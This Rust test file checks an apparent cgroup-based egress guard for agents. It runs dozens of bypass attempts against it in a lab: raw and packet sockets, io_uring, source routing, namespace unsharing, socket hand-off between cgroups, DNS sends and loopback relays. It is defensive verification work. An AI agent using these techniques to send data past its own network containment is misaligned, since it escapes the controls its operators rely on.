//! Every way around, tried for real from inside a governed cgroup: with all counter-measures, with each line of
//! defence alone, and with none. Without the last one the first would prove nothing.

use std::collections::{HashMap, HashSet};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicU16, Ordering};
use std::time::Duration;

use guard_agent::kernel::lab::{
    self,
    Countermeasure::{
        self, Ancestors, BindPort, Creator, CurrentTask, DatagramConnect, DatagramSend, DeniedPort,
        DeviceBound, Dns, Edge, Egress, Family, LinkLocal, Listener, Multipath, Name, ProxyPort, Redirect,
        Relay, SocketKind, SocketOption,
    },
};
use guard_agent::kernel::{AGENT_REFUSES_RELAYS, Kernel};
use guard_tests::netns::{End, NetNs, join};
use guard_tests::patience::patient;
use nix::sys::signal::Signal;

use crate::range::{FAR4, NEAR4, Range};
use crate::world::{AGENT, NAMES, run};

/// A port that governed processes may neither reach nor take.
const DENIED: u16 = 9477;

enum Way {
    /// An agent's script; it succeeds if the witness sees a packet.
    Out(&'static str),
    /// An agent's script; it succeeds if what it sends comes past the device at the other end.
    Past(&'static str),
    /// An agent's script; it succeeds if it says `ok`.
    Ok(&'static str),
    /// Anything else; says whether it succeeded.
    Own(fn(&Range, u16) -> bool),
}

struct Attack {
    name: &'static str,
    way: Way,
    /// Each of them alone stops it.
    stopped_by: &'static [Countermeasure],
}

const fn attack(name: &'static str, stopped_by: &'static [Countermeasure], way: Way) -> Attack {
    Attack {
        name,
        way,
        stopped_by,
    }
}

/// The names are those of `docs/bypass-resistance.md`.
const ATTACKS: &[Attack] = &[
    attack("tcp_v4", &[Redirect, Egress], Way::Out("go(socket.socket(V4, TCP), FAR4)")),
    attack("tcp_v6", &[Redirect, Egress], Way::Out("go(socket.socket(V6, TCP), FAR6)")),
    attack("tcp_v4_mapped", &[Redirect, Egress], Way::Out("go(socket.socket(V6, TCP), '::ffff:' + FAR4)")),
    attack(
        "tcp_fast_open",
        &[Redirect, Egress],
        Way::Out("s = socket.socket(); s.setblocking(False); s.sendto(MARK, 0x20000000, (FAR4, T))"),
    ),
    attack("io_uring", &[Redirect, Egress], Way::Out("ring(socket.socket(), 0)")),
    attack("io_uring_async", &[Redirect, Egress], Way::Out("ring(socket.socket(), 16)")),
    attack("io_uring_polled", &[Redirect, Egress], Way::Out("ring(socket.socket(), 0, True)")),
    attack("multipath_tcp", &[Multipath, Redirect, Egress], Way::Out("go(socket.socket(V4, TCP, 262), FAR4)")),
    attack(
        "udp_connected_v4",
        &[DatagramConnect, Egress],
        Way::Out("s = socket.socket(V4, UDP); s.connect((FAR4, T)); s.send(MARK)"),
    ),
    attack(
        "udp_connected_v6",
        &[DatagramConnect, Egress],
        Way::Out("s = socket.socket(V6, UDP); s.connect((FAR6, T)); s.send(MARK)"),
    ),
    attack(
        "udp_unconnected_v4",
        &[DatagramSend, Egress],
        Way::Out("socket.socket(V4, UDP).sendto(MARK, (FAR4, T))"),
    ),
    attack(
        "udp_unconnected_v6",
        &[DatagramSend, Egress],
        Way::Out("socket.socket(V6, UDP).sendto(MARK, (FAR6, T))"),
    ),
    attack(
        "udp_unconnected_v4_mapped",
        &[DatagramSend, Egress],
        Way::Out("socket.socket(V6, UDP).sendto(MARK, ('::ffff:' + FAR4, T))"),
    ),
    attack(
        "udp_device_per_message",
        &[Egress],
        Way::Out("device = struct.pack('@i8x', index())
socket.socket(V4, UDP).sendmsg([MARK], [(0, 8, device)], 0, ('127.0.0.1', T))"),
    ),
    attack(
        "udp_source_route_per_message",
        &[Egress],
        Way::Out("route = bytes([131, 7, 4]) + socket.inet_aton(FAR4) + b'\\1'
socket.socket(V4, UDP).sendmsg([MARK], [(0, 7, route)], 0, ('127.0.0.1', T))"),
    ),
    attack(
        "udp_connected_to_loopback",
        &[DatagramSend, Egress],
        Way::Out("s = socket.socket(V4, UDP); s.bind((NEAR4, 0)); s.connect(('127.0.0.1', T)); s.sendto(MARK, (FAR4, T))"),
    ),
    attack("udp_connected_before", &[Egress], Way::Own(udp_connected_before)),
    attack("tcp_connected_before", &[Egress], Way::Own(tcp_connected_before)),
    attack(
        "raw_socket",
        &[SocketKind, Egress],
        Way::Out("socket.socket(V4, socket.SOCK_RAW, 253).sendto(MARK, (FAR4, 0))"),
    ),
    attack(
        "raw_socket_with_own_header",
        &[SocketKind, Egress],
        Way::Out("header = struct.pack('!BBHHHBBH4s4s', 69, 0, 28, 1, 0, 64, 253, 0, socket.inet_aton(NEAR4), socket.inet_aton(FAR4))
socket.socket(V4, socket.SOCK_RAW, 255).sendto(header + MARK, (FAR4, 0))"),
    ),
    attack(
        "ping_socket",
        &[SocketKind, Egress],
        Way::Out("open('/proc/sys/net/ipv4/ping_group_range', 'w').write('0 1000')
socket.socket(V4, UDP, 1).sendto(bytes([8, 0, 0, 0, 0, 0, 0, 1]) + MARK, (FAR4, 0))"),
    ),
    attack(
        "packet_socket",
        &[Family, Edge],
        Way::Past("s = socket.socket(17, 3, 0); s.bind(('near', 0x800)); s.send(frame())"),
    ),
    attack(
        "packet_socket_past_the_queue",
        &[Family, Edge],
        Way::Past("s = socket.socket(17, 3, 0); s.setsockopt(263, 20, 1); s.bind(('near', 0x800)); s.send(frame())"),
    ),
    attack(
        "packet_socket_of_io_uring",
        &[Family, Edge],
        Way::Past("s = ring_socket(17, 3); s.bind(('near', 0x800)); s.send(frame())"),
    ),
    attack("packet_socket_opened_before", &[Edge], Way::Own(packet_socket_opened_before)),
    attack(
        "sctp",
        &[SocketKind, Egress],
        Way::Out("go(socket.socket(V4, TCP, 132), FAR4)"),
    ),
    attack(
        "sctp_to_many",
        &[SocketKind, Egress],
        Way::Out("s = socket.socket(V4, socket.SOCK_SEQPACKET, 132); s.setblocking(False); s.sendto(MARK, (FAR4, T))"),
    ),
    attack("dccp", &[SocketKind, Egress], Way::Out("go(socket.socket(V4, 6, 33), FAR4)")),
    attack("xdp_socket", &[Family], Way::Ok("socket.socket(44, 3, 0)")),
    attack("hypervisor_socket", &[Family], Way::Ok("socket.socket(40, 1, 0)")),
    attack(
        "udp_lite",
        &[SocketKind, DatagramSend, Egress],
        Way::Out("socket.socket(V4, UDP, 136).sendto(MARK, (FAR4, T))"),
    ),
    attack(
        "bound_to_a_device",
        &[DeviceBound, Egress],
        Way::Out("s = socket.socket(); s.setsockopt(1, 25, b'near'); go(s, FAR4)"),
    ),
    attack(
        "source_route",
        &[SocketOption, Egress],
        Way::Out("s = socket.socket(); s.setsockopt(0, 4, bytes([131, 7, 4]) + socket.inet_aton(FAR4) + b'\\1'); go(s, '203.0.113.10')"),
    ),
    attack(
        "routing_header_as_a_user",
        &[SocketOption, Egress],
        Way::Out("os.setgid(1000); os.setuid(1000); s = socket.socket(V6, TCP)
s.setsockopt(41, 57, bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + socket.inet_pton(V6, FAR6)); go(s, '2001:db8::7')"),
    ),
    attack("tcp_repair", &[SocketOption], Way::Ok("socket.socket().setsockopt(6, 19, 1)")),
    attack(
        "extension_header",
        &[SocketOption],
        Way::Ok("socket.socket(V6, UDP).setsockopt(41, 59, bytes([0, 0, 1, 4, 0, 0, 0, 0]))"),
    ),
    attack("link_local", &[LinkLocal, Redirect, Egress], Way::Out("go(socket.socket(V6, TCP), 'fe80::2', 0, index())")),
    attack(
        "socket_made_by_an_agent_used_outside",
        &[Creator, Egress],
        Way::Out("s = socket.socket(); join('OUTSIDE'); go(s, FAR4)"),
    ),
    attack("socket_made_outside_used_by_an_agent", &[CurrentTask], Way::Own(socket_made_outside)),
    attack("nested_cgroup", &[Ancestors, Egress], Way::Own(nested_cgroup)),
    attack(
        "socket_opened_before_connected_after",
        &[Redirect, Egress],
        Way::Own(socket_opened_before_connected_after),
    ),
    attack(
        "user_and_cgroup_namespace",
        &[Redirect, Egress],
        Way::Out("import ctypes; assert ctypes.CDLL(None).unshare(0x12000000) == 0; go(socket.socket(), FAR4)"),
    ),
    attack("unit_before_it_is_seen", &[Name], Way::Own(unit_before_it_is_seen)),
    attack("own_network_namespace", &[Listener, Egress], Way::Own(own_namespace)),
    attack("accepted_socket_used_again", &[Redirect, Egress], Way::Own(accepted_socket_used_again)),
    attack(
        "dns_udp_connected",
        &[Dns, Egress],
        Way::Out("s = socket.socket(V4, UDP); s.connect((FAR4, 53)); s.send(MARK)"),
    ),
    attack(
        "dns_udp_unconnected",
        &[Dns, Egress],
        Way::Out("socket.socket(V6, UDP).sendto(MARK, (FAR6, 53))"),
    ),
    attack("relay_on_loopback", &[Relay], Way::Own(|range, port| relay(range, port, false))),
    attack("relay_on_loopback_over_udp", &[Relay], Way::Own(|range, port| relay(range, port, true))),
    attack("relay_on_the_hosts_own_address", &[Redirect], Way::Own(relay_on_the_hosts_own_address)),
    attack("listener_port", &[ProxyPort], Way::Ok("dial('127.0.0.1', PORT)")),
    attack("metrics_port", &[DeniedPort], Way::Own(metrics_port)),
    attack("taking_a_port", &[BindPort], Way::Ok("socket.socket().bind(('127.0.0.1', 9477))")),
];

/// Attacks over a transport that not every kernel has, by its name in `/proc/net/protocols`. The emulated kernels load its
/// module, or their run fails.
const TRANSPORTS: [(&str, &str); 3] = [("sctp", "SCTP"), ("sctp_to_many", "SCTP"), ("dccp", "DCCP")];

/// Whether this kernel has what an attack needs.
fn possible(attack: &Attack, protocols: &str) -> bool {
    let needed = TRANSPORTS.iter().find(|(name, _)| *name == attack.name);
    let there = needed.is_none_or(|(_, transport)| {
        protocols
            .lines()
            .any(|line| line.split_whitespace().next() == Some(transport))
    });
    if !there {
        eprintln!(
            "{}: this kernel has no such transport, so it is not tried",
            attack.name
        );
    }
    there
}

#[test]
fn each_countermeasure_is_what_stops_its_attack() {
    let range = Range::new();
    range.world.kernel.deny_ports(&[DENIED]).unwrap();
    let mut wrong = Vec::new();
    let families = range.world.refuses_families();
    let protocols = std::fs::read_to_string("/proc/net/protocols").unwrap();
    let devices = Kernel::can_guard_devices();
    let names = range.world.has(NAMES);
    for attack in ATTACKS.iter().filter(|attack| possible(attack, &protocols)) {
        let here = |line: &&Countermeasure| match line {
            Family => families,
            Edge => devices,
            Name => names,
            _ => true,
        };
        let stopped_by: Vec<_> = attack.stopped_by.iter().filter(here).copied().collect();
        if stopped_by.is_empty() {
            continue;
        }
        let mut expect = |off: &[Countermeasure], success: bool| {
            lab::switch_off(&range.world.kernel, off).unwrap();
            if attack.succeeds(&range) != success {
                wrong.push(format!(
                    "{}: without {off:?}, success was expected to be {success}",
                    attack.name
                ));
            }
        };
        expect(&[], false);
        for alone in stopped_by.iter().filter(|_| stopped_by.len() > 1) {
            let off: Vec<_> = stopped_by.iter().copied().filter(|line| line != alone).collect();
            expect(&off, false);
        }
        expect(&stopped_by, true);
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn every_countermeasure_has_an_attack_that_needs_it() {
    let tried: HashSet<_> = ATTACKS.iter().flat_map(|attack| attack.stopped_by).collect();
    for countermeasure in &Countermeasure::ALL {
        assert!(tried.contains(countermeasure), "{countermeasure:?}");
    }
    let names: HashSet<_> = ATTACKS.iter().map(|attack| attack.name).collect();
    assert_eq!(names.len(), ATTACKS.len());
    let table = include_str!("../../../docs/bypass-resistance.md");
    for name in names {
        assert!(
            table.contains(&format!("`{name}`")),
            "{name} is missing in the table"
        );
    }
}

/// Rows whose counter-measure is the absence of something.
const WITHOUT_SWITCH: [&str; 1] = ["exemption by uid or packet mark"];

#[test]
fn every_row_that_says_closed_or_detected_names_an_attack_that_succeeds_without_its_countermeasure() {
    let attacks: HashSet<_> = ATTACKS.iter().map(|attack| attack.name).collect();
    let switches = include_str!("../../countermeasures.toml");
    let table = include_str!("../../../docs/bypass-resistance.md");
    let rows = table.lines().filter_map(|line| {
        let cells: Vec<_> = line.strip_prefix("| ")?.split(" | ").collect();
        Some((*cells.first()?, *cells.get(1)?, *cells.get(3)?))
    });
    let mut seen = 0;
    for (vector, verdict, tests) in rows.filter(|(vector, ..)| !WITHOUT_SWITCH.contains(vector)) {
        if !["closed", "detected", "reported"]
            .iter()
            .any(|word| verdict.contains(word))
        {
            continue;
        }
        seen += 1;
        let shown = tests
            .split('`')
            .skip(1)
            .step_by(2)
            .any(|name| attacks.contains(name) || switches.contains(&format!("::{name}\"")));
        assert!(shown, "{vector}: none of {tests}");
    }
    assert!(seen > 80, "{seen} rows");
}

impl Attack {
    fn succeeds(&self, range: &Range) -> bool {
        static NEXT: AtomicU16 = AtomicU16::new(20_000);
        let port = NEXT.fetch_add(7, Ordering::Relaxed);
        range.forget();
        match self.way {
            Way::Out(script) => {
                range.world.agent(&Range::script(port, script));
                range.saw(port)
            }
            Way::Past(script) => {
                range.world.agent(&Range::script(port, script));
                range.heard(port)
            }
            Way::Ok(script) => range.world.agent(&Range::script(port, script)) == "ok",
            Way::Own(attempt) => attempt(range, port),
        }
    }
}

/// Opens something in a cgroup, has that cgroup governed (without cutting anything), and sends.
fn opened_before(range: &Range, port: u16, open: &str) -> bool {
    sent_by_what_was_open(range, port, open, || range.saw(port))
}

fn sent_by_what_was_open(range: &Range, port: u16, open: &str, seen: impl Fn() -> bool) -> bool {
    let world = &range.world;
    let late = world.anchor.child(&format!("late/{port}")).unwrap();
    let script = format!(
        "import signal; told = {{signal.SIGUSR1}}; signal.pthread_sigmask(signal.SIG_BLOCK, told)
{open}; print('open', flush=True); signal.sigwait(told)
attempt(lambda: s.send(MARK)); print('sent', flush=True); time.sleep(10)"
    );
    let mut process = world
        .python(&Range::script(port, &script))
        .cgroup(&late)
        .start()
        .unwrap();
    let said = process.line().unwrap();
    assert_eq!(said, "open", "{:?}", process.said());
    world.kernel.govern(late.id().unwrap(), AGENT).unwrap();
    range.forget();
    process.signal(Signal::SIGUSR1).unwrap();
    while process.line().unwrap() != "sent" {}
    let seen = seen();
    process.kill();
    world.kernel.ungovern(late.id().unwrap()).unwrap();
    seen
}

fn packet_socket_opened_before(range: &Range, port: u16) -> bool {
    let open = "s = socket.socket(17, 3, 0); s.bind(('near', 0x800)); MARK = frame()";
    sent_by_what_was_open(range, port, open, || range.heard(port))
}

fn socket_opened_before_connected_after(range: &Range, port: u16) -> bool {
    let open = "class s:\n  made = socket.socket(V4, TCP)\n  def send(_): go(s.made, FAR4)\npass";
    opened_before(range, port, open)
}

fn udp_connected_before(range: &Range, port: u16) -> bool {
    opened_before(range, port, "s = socket.socket(V4, UDP); s.connect((FAR4, T))")
}

fn tcp_connected_before(range: &Range, port: u16) -> bool {
    let listener = range.far.run(|| Ok(TcpListener::bind((FAR4, port))?)).unwrap();
    let seen = opened_before(range, port, "s = dial(FAR4, T)");
    drop(listener);
    seen
}

fn socket_made_outside(range: &Range, port: u16) -> bool {
    range.world.outsider(&Range::script(
        port,
        "s = socket.socket(); join('AGENTS'); go(s, FAR4)",
    ));
    range.saw(port)
}

fn nested_cgroup(range: &Range, port: u16) -> bool {
    let nested = range.world.agents.child(&format!("nested/{port}")).unwrap();
    let script = Range::script(port, "go(socket.socket(), FAR4)");
    run(range.world.python(&script).cgroup(&nested));
    range.saw(port)
}

/// A unit that is an agent's by its own name starts in a slice of others', and the daemon has not seen it yet.
fn unit_before_it_is_seen(range: &Range, port: u16) -> bool {
    let kernel = &range.world.kernel;
    kernel.hold_names(&["coder@".to_owned()]).unwrap();
    let name = format!("system.slice/coder@{port}.service");
    let unit = range.world.anchor.child(&name).unwrap();
    let script = Range::script(port, "go(socket.socket(), FAR4)");
    run(range.world.python(&script).cgroup(&unit));
    let seen = range.saw(port);
    kernel.hold_names(&[]).unwrap();
    kernel.settle(unit.id().unwrap()).unwrap();
    seen
}

/// A namespace that no listener is in, with a way out of its own.
fn own_namespace(range: &Range, port: u16) -> bool {
    let own = NetNs::new().unwrap();
    let (device, there) = (format!("own{port}"), format!("o{port}"));
    join(
        End {
            namespace: &own,
            device: &device,
            addresses: &["192.0.2.1/24"],
        },
        End {
            namespace: &range.far,
            device: &there,
            addresses: &["192.0.2.2/24"],
        },
    )
    .unwrap();
    own.ip(&format!("link set {device} address 02:00:00:00:00:01"))
        .unwrap();
    let script = Range::script(port, "go(socket.socket(), '192.0.2.2')");
    run(range
        .world
        .python(&script)
        .cgroup(&range.world.agents)
        .netns(&own));
    range.saw(port)
}

/// An accepted socket may answer its client; disconnected and connected anew it is a client itself.
fn accepted_socket_used_again(range: &Range, port: u16) -> bool {
    let script =
        "l = socket.create_server((NEAR4, T)); print('open', flush=True); s, _ = l.accept(); l.close()
import ctypes; libc = ctypes.CDLL(None); assert libc.connect(s.fileno(), bytes(16), 16) == 0
s.setblocking(False); s.connect_ex((FAR4, T + 1)); time.sleep(0.05)";
    let mut process = range
        .world
        .python(&Range::script(port, script))
        .cgroup(&range.world.agents)
        .start()
        .unwrap();
    assert_eq!(process.line().unwrap(), "open", "{:?}", process.said());
    #[allow(clippy::disallowed_methods, reason = "this is the outside world, not Guard")]
    let client = range.far.run(|| Ok(TcpStream::connect((NEAR4, port))?)).unwrap();
    let seen = range.saw(port + 1);
    drop(client);
    seen
}

/// Somebody whom nobody governs passes on what he is told, for an agent whose rules refuse what they do not list.
/// To the agent's namespace it is one more address; to Guard it is a destination like any other.
fn relay_on_the_hosts_own_address(range: &Range, port: u16) -> bool {
    let world = &range.world;
    let listen = "l = socket.socket(); l.bind((NEAR4, T)); l.listen(); l.settimeout(5 * PATIENCE); print('open', flush=True)
s, _ = l.accept(); assert s.recv(99) == MARK; s = socket.socket(); s.setblocking(False); s.connect_ex((FAR4, T)); time.sleep(9)";
    let mut outsider = world
        .python(&Range::script(port, listen))
        .cgroup(&world.outside)
        .start()
        .unwrap();
    assert_eq!(outsider.line().unwrap(), "open");
    world.agent(&Range::script(port, "dial(NEAR4, T).send(MARK)"));
    let seen = range.saw(port);
    outsider.kill();
    seen
}

fn relay(range: &Range, port: u16, datagrams: bool) -> bool {
    let world = &range.world;
    let refuses = HashMap::from([(AGENT, AGENT_REFUSES_RELAYS)]);
    world.kernel.set_agent_flags(refuses).unwrap();
    let (kind, hear, tell) = if datagrams {
        (
            "UDP",
            "l.recv(99)",
            "socket.socket(V4, UDP).sendto(MARK, ('127.0.0.1', T))",
        )
    } else {
        ("TCP", "l.listen(); l.accept()", "dial('127.0.0.1', T)")
    };
    let passer_on = format!(
        "l = socket.socket(V4, {kind}); l.bind(('127.0.0.1', T)); print('open', flush=True)
{hear}; s = socket.socket(); s.setblocking(False); s.connect_ex((FAR4, T)); time.sleep(9)"
    );
    let mut outsider = world
        .python(&Range::script(port, &passer_on))
        .cgroup(&world.outside)
        .start()
        .unwrap();
    assert_eq!(outsider.line().unwrap(), "open");
    if !datagrams {
        // Listening comes a moment after it is said.
        std::thread::sleep(patient(Duration::from_millis(100)));
    }
    world.agent(&Range::script(port, tell));
    let seen = range.saw(port);
    outsider.kill();
    world.kernel.set_agent_flags(HashMap::new()).unwrap();
    seen
}

fn metrics_port(range: &Range, port: u16) -> bool {
    let listener = range
        .world
        .netns
        .run(|| Ok(TcpListener::bind(("127.0.0.1", DENIED))?))
        .unwrap();
    let said = range.world.agent(&Range::script(port, "dial('127.0.0.1', 9477)"));
    drop(listener);
    said == "ok"
}

#[test]
fn a_daemon_cannot_switch_anything_off_and_switches_everything_on() {
    let range = Range::new();
    let way_out = |port| {
        range.forget();
        range
            .world
            .agent(&Range::script(port, "go(socket.socket(), FAR4)"));
        range.saw(port)
    };
    lab::switch_off(&range.world.kernel, &[Redirect, Egress]).unwrap();
    assert!(way_out(19_001));
    let daemon = range.world.start_again();
    assert!(!way_out(19_002));
    let refused = lab::switch_off(&daemon, &[Redirect, Egress]).unwrap_err();
    assert!(refused.to_string().contains("lab only"), "{refused}");
    assert!(!way_out(19_003));
}
